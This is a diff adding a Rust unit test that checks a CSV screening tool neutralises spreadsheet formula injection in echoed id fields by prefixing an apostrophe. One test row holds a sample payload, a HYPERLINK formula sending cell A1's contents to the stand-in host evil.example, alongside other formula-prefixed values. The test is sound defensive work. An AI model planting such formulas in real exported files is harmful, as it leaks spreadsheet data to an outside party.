@@ -193,6 +193,27 @@ fn quoting_bom_and_crlf_are_read_and_written_back() {
     assert!(out[1][6].contains("household member R,1 is protected"), "{}", &out[1][6]);
 }
 
+#[test]
+fn echoed_ids_a_spreadsheet_would_run_are_neutralised() {
+    let mut csv = format!("{HEADER}\n");
+    csv.push_str(&row("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"R1\")", "+H1", "albanian", "Prizren", &[]));
+    csv.push_str(&row("-2+3", "@SUM(A1)", "albanian", "Prizren", &[]));
+    csv.push_str(&row("R3", "H-3", "albanian", "Prizren", &[]));
+    let out = screen_file("unmik-2004", &csv, false).unwrap();
+    let ids: Vec<(&str, &str)> = out.iter().map(|r| (&r[0], &r[1])).collect();
+    assert_eq!(
+        ids,
+        [
+            ("'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"R1\")", "'+H1"),
+            ("'-2+3", "'@SUM(A1)"),
+            // Only the first character matters: ids with a sign inside stay as they are.
+            ("R3", "H-3"),
+        ]
+    );
+    // Every row is still decided as its facts say.
+    assert!(out.iter().all(|r| &r[2] == "no_bar_found"), "{out:?}");
+}
+
 /// People for the agreement test: a few thousand households, members scattered, names with
 /// quotes and line breaks, so the reader's blocks cut through households and quoted fields.
 fn many(n: usize) -> Vec<PersonFacts> {
